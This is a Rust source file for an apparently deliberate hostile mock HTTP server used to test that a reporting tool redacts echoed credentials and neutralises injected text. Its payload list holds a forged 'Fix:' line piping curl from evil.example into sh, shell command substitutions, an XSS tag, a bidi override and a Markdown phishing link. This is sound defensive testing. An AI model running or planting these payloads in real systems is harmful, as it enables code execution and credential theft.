//! A hostile host that speaks valid HTTP: it echoes the credential it was
//! sent (whole, decoded, base64, percent-encoded, JSON-escaped, cut short,
//! split by invisible characters) and text made to hijack a report
//! (terminal escapes, bidi overrides, Markdown links, shell substitutions, a
//! forged "Fix:" line, another person's email) into every place a report
//! reads: status-specific bodies, trace ids, failure categories, realms,
//! `Location`, `Retry-After`, `deploymentType`, display names. A report of a
//! run against it must show none of it as the server meant.

use crate::http::{JSON, Request, Response};
use base64::Engine;
use base64::engine::general_purpose::STANDARD;

/// Text made to turn a report against its reader.
const INJECTIONS: &[&str] = &[
    "\u{1b}[2J\u{1b}[31m\nFix: curl https://evil.example/install | sh\n",
    "\u{202e}lmth.evil\u{202c}",
    "[click me](https://evil.example/steal)",
    "<img src=x onerror=alert(1)>",
    "$(touch /tmp/confauth-pwned) `id`",
    "other.person@example.com",
];

/// The credential of the request in the forms a careless server writes it.
fn echoes(req: &Request) -> Vec<String> {
    let header = req.header("Authorization").unwrap_or_default().to_string();
    let value = header.split_once(' ').map_or(header.as_str(), |(_, v)| v).trim();
    let decoded = STANDARD
        .decode(value)
        .ok()
        .and_then(|bytes| String::from_utf8(bytes).ok())
        .unwrap_or_default();
    let secret = decoded.split_once(':').map_or(value, |(_, s)| s).to_string();
    let chars: Vec<char> = secret.chars().collect();
    let piece = |from: usize, len: usize| chars.iter().skip(from).take(len).collect::<String>();
    let mut forms = vec![
        header.clone(),
        decoded.clone(),
        secret.clone(),
        STANDARD.encode(&secret),
        percent(&secret),
        serde_json::to_string(&secret).unwrap_or_default(),
        // Cut short, as a server that truncates what it logs would show it.
        piece(0, 40),
        piece(chars.len().saturating_sub(20), 20),
        piece(chars.len() / 3, 25),
        // Split by invisible characters, which a cleaner might remove.
        chars
            .iter()
            .enumerate()
            .map(|(i, c)| {
                if i % 10 == 9 {
                    format!("{c}\u{200b}")
                } else {
                    c.to_string()
                }
            })
            .collect(),
    ];
    forms.retain(|f| !f.is_empty());
    forms
}

fn percent(text: &str) -> String {
    text.bytes()
        .map(|b| {
            if b.is_ascii_alphanumeric() {
                (b as char).to_string()
            } else {
                format!("%{b:02X}")
            }
        })
        .collect()
}

/// A header value HTTP can carry: no control characters (the wire format
/// has no room for them), the rest as it is.
fn header_value(text: &str) -> String {
    text.chars().filter(|c| !c.is_control()).collect()
}

pub fn respond(req: &Request) -> Response {
    let forms = echoes(req);
    let all: Vec<String> = forms
        .iter()
        .map(String::as_str)
        .chain(INJECTIONS.iter().copied())
        .map(str::to_string)
        .collect();
    let joined = all.join(" | ");
    let path = req.path();
    let body = serde_json::json!({
        "message": joined,
        "errorMessages": all,
        "displayName": format!("{} {}", INJECTIONS[0], forms.first().cloned().unwrap_or_default()),
        "emailAddress": "other.person@example.com",
        "deploymentType": joined,
        "version": INJECTIONS[2],
    });
    let status = if path.ends_with("/serverInfo") {
        200
    } else if path.contains("/myself") || path.contains("/user/current") {
        401
    } else if path.ends_with("/_edge/tenant_info") {
        404
    } else {
        302
    };
    let mut response = Response::json(status, &body);
    let one_line = header_value(&joined);
    for (name, value) in [
        ("ATL-TraceId", one_line.clone()),
        ("X-AREQUESTID", one_line.clone()),
        ("X-Failure-Category", format!("FAILURE_CLIENT_{one_line}")),
        ("WWW-Authenticate", format!("Basic realm=\"{one_line}\"")),
        ("X-Seraph-LoginReason", one_line.clone()),
        ("X-AUSERNAME", one_line.clone()),
        ("Retry-After", header_value(INJECTIONS[2])),
        ("Server", header_value(INJECTIONS[1])),
        (
            "Location",
            format!("https://evil.example/$(id)?t={}", percent(&forms.join(""))),
        ),
    ] {
        response = response.with_header(name, value);
    }
    response.headers[0].1 = JSON.into();
    response
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn every_form_of_the_credential_is_echoed() {
        let req = Request {
            method: "GET".into(),
            target: "/rest/api/2/myself".into(),
            headers: vec![(
                "Authorization".into(),
                format!("Basic {}", STANDARD.encode("me@x.org:s3cr3t-t0ken-v4lue")),
            )],
        };
        let answer = respond(&req);
        let body = String::from_utf8(answer.body).unwrap();
        assert!(body.contains("s3cr3t-t0ken-v4lue") && body.contains("me@x.org:s3cr3t"));
        assert!(
            answer
                .headers
                .iter()
                .any(|(n, v)| n == "ATL-TraceId" && v.contains("s3cr3t-t0ken-v4lue"))
        );
        assert!(answer.headers.iter().all(|(_, v)| !v.chars().any(char::is_control)));
    }
}
